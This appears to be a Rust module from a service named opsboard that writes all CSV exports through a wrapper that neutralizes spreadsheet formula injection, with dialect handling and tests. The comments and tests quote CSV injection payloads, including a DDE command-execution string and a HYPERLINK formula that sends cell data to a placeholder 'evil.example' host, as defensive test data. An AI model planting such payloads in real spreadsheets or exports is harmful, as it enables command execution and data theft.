//! The one way opsboard writes CSV: every export, report or download that produces CSV goes
//! through [`CsvOut`], never through `csv::Writer` directly (a test below fails otherwise).
//!
//! Why: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and tab
//! or carriage return can smuggle one past a first look (CSV injection, e.g. `=cmd|' /C calc'!A0`
//! or `=HYPERLINK(…)` that sends the sheet's data elsewhere). opsboard stores such text as it
//! was given (an import takes cells verbatim), so the neutralizing happens here, on the way
//! out, by the OWASP rule: such a cell gets a leading `'`, which spreadsheets show as text and
//! do not evaluate. Numbers the service formats itself cannot be formulas and stay numbers.

use std::io::Write;

/// The characters that make a spreadsheet treat a cell as a formula (OWASP, CSV injection).
pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// `text` as it may appear in a CSV cell: with a leading `'` when it begins with one of
/// [`FORMULA_TRIGGERS`], unchanged otherwise.
pub fn neutralize(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_TRIGGERS) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// One cell of a row.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// Text from anywhere (users, imports, names): neutralized.
    Text(&'a str),
    /// A whole number the service computed: written as it is, so `-3` stays a number.
    Integer(i64),
    /// A decimal number the service computed: written as it is (with a decimal comma in
    /// [`Dialect::ExcelDe`]).
    Decimal(f64),
    /// A date: `dd.mm.yyyy` in [`Dialect::ExcelDe`], ISO 8601 otherwise.
    Date(chrono::NaiveDate),
    /// An instant: local `dd.mm.yyyy HH:MM` (the business calendar's time zone) in
    /// [`Dialect::ExcelDe`], RFC 3339 in UTC otherwise.
    Time(chrono::DateTime<chrono::Utc>),
    /// Nothing (an empty cell).
    Empty,
}

/// How a CSV download is written: `excel-de` (what German Excel opens with a double click:
/// UTF-8 BOM, `;`, CRLF, `dd.mm.yyyy`, decimal comma) or `rfc4180` (`,`, CRLF, ISO dates,
/// decimal point).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Deserialize, utoipa::ToSchema)]
pub enum Dialect {
    /// UTF-8 BOM, `;`, CRLF, dates `dd.mm.yyyy`, decimal comma.
    #[default]
    #[serde(rename = "excel-de")]
    ExcelDe,
    /// RFC 4180: `,`, CRLF, ISO 8601 dates, decimal point.
    #[serde(rename = "rfc4180")]
    Rfc4180,
}

impl Dialect {
    /// The field separator.
    pub fn delimiter(self) -> u8 {
        match self {
            Dialect::ExcelDe => b';',
            Dialect::Rfc4180 => b',',
        }
    }

    /// A decimal number as this dialect writes it.
    pub fn decimal(self, x: f64) -> String {
        match self {
            Dialect::ExcelDe => x.to_string().replace('.', ","),
            Dialect::Rfc4180 => x.to_string(),
        }
    }

    /// A date as this dialect writes it.
    pub fn date(self, date: chrono::NaiveDate) -> String {
        match self {
            Dialect::ExcelDe => date.format("%d.%m.%Y").to_string(),
            Dialect::Rfc4180 => date.format("%Y-%m-%d").to_string(),
        }
    }

    /// An instant as this dialect writes it.
    pub fn time(self, at: chrono::DateTime<chrono::Utc>) -> String {
        match self {
            Dialect::ExcelDe => at
                .with_timezone(&crate::common::calendar::current().tz)
                .format("%d.%m.%Y %H:%M")
                .to_string(),
            Dialect::Rfc4180 => at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Cell::Text(text)
    }
}

impl<'a> From<&'a String> for Cell<'a> {
    fn from(text: &'a String) -> Self {
        Cell::Text(text)
    }
}

impl From<i64> for Cell<'_> {
    fn from(number: i64) -> Self {
        Cell::Integer(number)
    }
}

impl From<f64> for Cell<'_> {
    fn from(number: f64) -> Self {
        Cell::Decimal(number)
    }
}

/// A CSV writer that neutralizes every text cell; quoting and escaping are the `csv` crate's.
pub struct CsvOut<W: Write> {
    inner: csv::Writer<W>,
    dialect: Option<Dialect>,
}

impl<W: Write> CsvOut<W> {
    /// A writer with the given delimiter: `b';'` for what German Excel opens directly, `b','`
    /// otherwise (the import reads both).
    pub fn new(out: W, delimiter: u8) -> Self {
        CsvOut {
            inner: csv::WriterBuilder::new()
                .delimiter(delimiter)
                .from_writer(out),
            dialect: None,
        }
    }

    /// A writer in the dialect a German Excel or LibreOffice opens directly with a double
    /// click ([`Dialect::ExcelDe`]: a UTF-8 byte-order mark first, `;`, CRLF).
    pub fn excel(out: W) -> std::io::Result<Self> {
        Self::with_dialect(out, Dialect::ExcelDe)
    }

    /// A writer for a download in `dialect`: the BOM (for `excel-de`) is written at once, rows
    /// end in CRLF, dates and decimals are formatted as the dialect says.
    pub fn with_dialect(mut out: W, dialect: Dialect) -> std::io::Result<Self> {
        if dialect == Dialect::ExcelDe {
            out.write_all("\u{feff}".as_bytes())?;
        }
        Ok(CsvOut {
            inner: csv::WriterBuilder::new()
                .delimiter(dialect.delimiter())
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
            dialect: Some(dialect),
        })
    }

    /// Writes one row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> csv::Result<()> {
        let fields: Vec<std::borrow::Cow<'a, str>> = cells
            .into_iter()
            .map(|cell| match cell {
                Cell::Text(text) => neutralize(text),
                Cell::Integer(n) => std::borrow::Cow::Owned(n.to_string()),
                Cell::Decimal(x) => std::borrow::Cow::Owned(match self.dialect {
                    Some(dialect) => dialect.decimal(x),
                    None => x.to_string(),
                }),
                Cell::Date(date) => {
                    std::borrow::Cow::Owned(self.dialect.unwrap_or(Dialect::Rfc4180).date(date))
                }
                Cell::Time(at) => {
                    std::borrow::Cow::Owned(self.dialect.unwrap_or(Dialect::Rfc4180).time(at))
                }
                Cell::Empty => std::borrow::Cow::Borrowed(""),
            })
            .collect();
        self.inner.write_record(fields.iter().map(|f| f.as_bytes()))
    }

    /// Flushes and returns the underlying writer.
    pub fn finish(self) -> Result<W, String> {
        self.inner.into_inner().map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[Vec<Cell<'_>>]) -> String {
        let mut out = CsvOut::new(Vec::new(), b';');
        for row in rows {
            out.row(row.iter().copied()).expect("write");
        }
        String::from_utf8(out.finish().expect("finish")).expect("UTF-8")
    }

    #[test]
    fn formula_cells_get_a_leading_quote_and_nothing_else_changes() {
        let dangerous = [
            "=cmd|' /C calc'!A0",
            "+HYPERLINK(\"https://evil.example/?\"&A1)",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in dangerous {
            assert_eq!(neutralize(text), format!("'{text}"), "{text:?}");
        }
        for text in [
            "Wohngeld",
            "",
            "a=b",
            "99010003001000",
            " =spaced",
            "'quoted",
        ] {
            assert_eq!(neutralize(text), text, "{text:?}");
        }
    }

    #[test]
    fn rows_are_neutralized_quoted_and_read_back_as_written() {
        let text = written(&[
            vec!["key".into(), "name".into(), "value".into()],
            vec!["bad".into(), "=cmd|' /C calc'!A0".into(), Cell::Integer(-3)],
            vec![
                "ok".into(),
                "Bau; \"Antrag\"\nzwei Zeilen".into(),
                Cell::Decimal(1.5),
            ],
            vec!["tab".into(), "\t@x".into(), Cell::Integer(4)],
        ]);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.expect("record").iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            vec![
                vec!["bad", "'=cmd|' /C calc'!A0", "-3"],
                vec!["ok", "Bau; \"Antrag\"\nzwei Zeilen", "1.5"],
                vec!["tab", "'\t@x", "4"],
            ]
        );
    }

    #[test]
    fn dialects_differ_in_bom_separator_dates_and_decimals() {
        let date = chrono::NaiveDate::from_ymd_opt(2027, 1, 4).expect("date");
        let mut excel = CsvOut::with_dialect(Vec::new(), Dialect::ExcelDe).expect("BOM");
        excel
            .row([
                Cell::Text("=1"),
                Cell::Decimal(1.5),
                Cell::Date(date),
                Cell::Empty,
            ])
            .expect("row");
        let excel = String::from_utf8(excel.finish().expect("finish")).expect("UTF-8");
        assert_eq!(excel, "\u{feff}'=1;1,5;04.01.2027;\r\n");
        let mut plain = CsvOut::with_dialect(Vec::new(), Dialect::Rfc4180).expect("no BOM");
        plain
            .row([
                Cell::Text("=1"),
                Cell::Decimal(1.5),
                Cell::Date(date),
                Cell::Empty,
            ])
            .expect("row");
        let plain = String::from_utf8(plain.finish().expect("finish")).expect("UTF-8");
        assert_eq!(plain, "'=1,1.5,2027-01-04,\r\n");
    }

    /// Every CSV opsboard writes goes through this module: nothing else in `src/` may build a
    /// `csv::Writer`.
    #[test]
    fn no_other_module_writes_csv() {
        fn visit(dir: &std::path::Path, found: &mut Vec<String>) {
            let Ok(entries) = std::fs::read_dir(dir) else {
                return;
            };
            for entry in entries.flatten() {
                let path = entry.path();
                if path.is_dir() {
                    visit(&path, found);
                } else if path.extension().is_some_and(|e| e == "rs")
                    && !path.ends_with("csv_out.rs")
                {
                    let text = std::fs::read_to_string(&path).unwrap_or_default();
                    if text.contains("csv::Writer") || text.contains("WriterBuilder") {
                        found.push(path.display().to_string());
                    }
                }
            }
        }
        let mut found = Vec::new();
        visit(
            &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"),
            &mut found,
        );
        assert!(
            found.is_empty(),
            "write CSV through crate::common::csv_out::CsvOut: {found:?}"
        );
    }
}
